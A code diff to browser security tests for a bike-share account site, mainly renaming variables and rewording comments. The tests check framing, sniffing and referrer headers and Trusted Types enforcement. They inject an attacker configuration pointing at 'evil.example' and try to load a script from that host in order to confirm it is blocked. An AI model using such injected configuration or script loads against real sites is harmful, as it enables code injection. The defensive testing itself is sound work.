@@ -5,26 +5,26 @@ import { fetchToken, logIn } from "../account/account-test.ts";
 import { openHostPage } from "../host-page.ts";
 import { openLoggedIn, test } from "./standalone-test.ts";
 
-const DOCUMENTS = ({ pathname }: URL): boolean => pathname.startsWith("/account/") && !pathname.includes(".");
-const CHUNKS = "dist/standalone/chunks";
+const isDocument = ({ pathname }: URL): boolean => pathname.startsWith("/account/") && !pathname.includes(".");
+const CHUNK_FOLDER = "dist/standalone/chunks";
 
-test("headers forbid framing, sniffing and referrers; without them a stranger's frame gets no screen, login or message, and one with an unknown parent logs in only by typing", async ({
+test("headers forbid framing, sniffing and referrers; without a policy a page in a stranger's frame shows no screen, makes no call and sends no message, and one with an unknown parent ignores a link's token", async ({
   page,
   world,
 }) => {
   await openLoggedIn(page, world, "/survey");
   await expect(page).toHaveTitle("Survey – Indego");
-  const received = async () => (await world.state()).received.length;
-  // The screen continues to load after its title is set, and ends with its page.
+  const countReceived = async () => (await world.state()).received.length;
+  // Waits until the screen, which loads on after its title is set, has sent all of its calls.
   await page.waitForLoadState("networkidle");
   await page.goto("about:blank");
-  const before = await received();
-  const served: Record<string, string>[] = [];
-  await page.route(DOCUMENTS, async (route) => {
-    const answer = await route.fetch();
-    served.push(answer.headers());
-    const { "content-security-policy": _, ...headers } = answer.headers();
-    await route.fulfill({ response: answer, headers });
+  const callCount = await countReceived();
+  const servedHeaders: Record<string, string>[] = [];
+  await page.route(isDocument, async (route) => {
+    const response = await route.fetch();
+    servedHeaders.push(response.headers());
+    const { "content-security-policy": _, ...headers } = response.headers();
+    await route.fulfill({ response, headers });
   });
   await page.route("https://stranger.example/", (route) =>
     route.fulfill({
@@ -35,13 +35,13 @@ test("headers forbid framing, sniffing and referrers; without them a stranger's 
       </script><iframe src="${new URL("/account/?system=phl&access_token=t", demoOrigins().pagesOrigin)}"></iframe>`,
     }),
   );
-  const warned = page.waitForEvent("console", (message) => message.text().includes("frameParents"));
+  const warning = page.waitForEvent("console", (message) => message.text().includes("frameParents"));
   await page.goto("https://stranger.example/");
-  await warned;
+  await warning;
   await expect(page.frameLocator("iframe").locator("#bikeshare")).toBeEmpty();
   expect(await page.evaluate("window.heard")).toEqual([]);
-  expect(await received()).toBe(before);
-  for (const headers of served) {
+  expect(await countReceived()).toBe(callCount);
+  for (const headers of servedHeaders) {
     const policy = headers["content-security-policy"];
     expect(policy).toContain(`frame-ancestors ${demoOrigins().pagesOrigin}`);
     expect(policy).toContain("default-src 'none'");
@@ -54,13 +54,13 @@ test("headers forbid framing, sniffing and referrers; without them a stranger's 
       "x-content-type-options": "nosniff",
     });
   }
-  expect(served).not.toEqual([]);
+  expect(servedHeaders).not.toEqual([]);
 
-  await page.unroute(DOCUMENTS);
+  await page.unroute(isDocument);
   const token = await fetchToken(world, "phl");
-  // Firefox has no `ancestorOrigins`.
-  for (const file of readdirSync(CHUNKS)) {
-    const text = readFileSync(`${CHUNKS}/${file}`, "utf8");
+  // Imitates Firefox, which has no `ancestorOrigins`: the page cannot know its parent.
+  for (const file of readdirSync(CHUNK_FOLDER)) {
+    const text = readFileSync(`${CHUNK_FOLDER}/${file}`, "utf8");
     if (!text.includes("ancestorOrigins")) continue;
     const body = text.replaceAll("ancestorOrigins", "noOrigins");
     await page.route(`**/account/chunks/${file}`, (route) => route.fulfill({ contentType: "text/javascript", body }));
@@ -70,54 +70,55 @@ test("headers forbid framing, sniffing and referrers; without them a stranger's 
   await expect(frame.getByRole("heading", { name: /Log in/ })).toBeVisible();
   await logIn(frame);
   await expect(frame.getByRole("heading", { name: "Trip History", level: 1 })).toBeVisible();
-  // The choice is not stored: the next iframe asks again.
+  // The login is not stored: the page in the next frame asks for it again.
   await openHostPage(page, '<iframe src="/account/trips?system=phl"></iframe>', "");
   await expect(page.frameLocator("iframe").getByRole("heading", { name: /Log in/ })).toBeVisible();
 });
 
-const STRIPE = "https://js.stripe.com/**";
+const STRIPE_FILES = "https://js.stripe.com/**";
 
-/** A configuration that somebody has written into the page. */
-const FOREIGN = '<script type="application/json" id="bikeshare-config">{"publicUrl":"https://evil.example/"}</script>';
+/** A configuration that an attacker has written into the page. */
+const FOREIGN_CONFIGURATION =
+  '<script type="application/json" id="bikeshare-config">{"publicUrl":"https://evil.example/"}</script>';
 
-// The demo's page translator excludes Trusted Types from the policy.
+// The demo's own policy lacks Trusted Types because of its page translator: the test adds them.
 test("under Trusted Types the page works up to the card, ignores a configuration in it, and loads Stripe's script alone from a string", async ({
   page,
   world,
 }) => {
-  const stripe: string[] = [];
-  await page.route(DOCUMENTS, async (route) => {
-    const answer = await route.fetch();
-    const policy = answer.headers()["content-security-policy"];
+  const stripeRequests: string[] = [];
+  await page.route(isDocument, async (route) => {
+    const response = await route.fetch();
+    const policy = response.headers()["content-security-policy"];
     const headers = {
-      ...answer.headers(),
+      ...response.headers(),
       "content-security-policy": `${policy}; require-trusted-types-for 'script'; trusted-types default`,
     };
     // Without the stand-in the page requests Stripe's own script.
-    const body = (await answer.text())
+    const body = (await response.text())
       .replace('<script src="/stripe-stand-in.js"></script>', "")
-      .replace("<body>", `<body>${FOREIGN}`);
-    return route.fulfill({ response: answer, headers, body });
+      .replace("<body>", `<body>${FOREIGN_CONFIGURATION}`);
+    return route.fulfill({ response, headers, body });
   });
-  await page.route(STRIPE, (route) => {
-    stripe.push(route.request().url());
+  await page.route(STRIPE_FILES, (route) => {
+    stripeRequests.push(route.request().url());
     return route.fulfill({ contentType: "text/javascript", body: "" });
   });
-  const elsewhere: string[] = [];
-  page.on("request", (request) => request.url().includes("evil.example") && elsewhere.push(request.url()));
+  const foreignRequests: string[] = [];
+  page.on("request", (request) => request.url().includes("evil.example") && foreignRequests.push(request.url()));
   await openLoggedIn(page, world, "/update-payment");
   await page.getByRole("button", { name: "Replace card" }).click();
-  await expect.poll(() => stripe.length).toBeGreaterThan(0);
-  const refused = await page.evaluate(() => {
+  await expect.poll(() => stripeRequests.length).toBeGreaterThan(0);
+  const result = await page.evaluate(() => {
     const tag = document.createElement("script");
     try {
       tag.src = "https://evil.example/x.js";
     } catch (error) {
       return error instanceof Error ? error.name : "thrown";
     }
-    return "taken";
+    return "no error";
   });
-  expect(refused).toBe("TypeError");
-  expect(elsewhere).toEqual([]);
+  expect(result).toBe("TypeError");
+  expect(foreignRequests).toEqual([]);
   expect((await world.state()).received.map(({ path }) => path)).toContain("/bikeshare/1/user");
 });
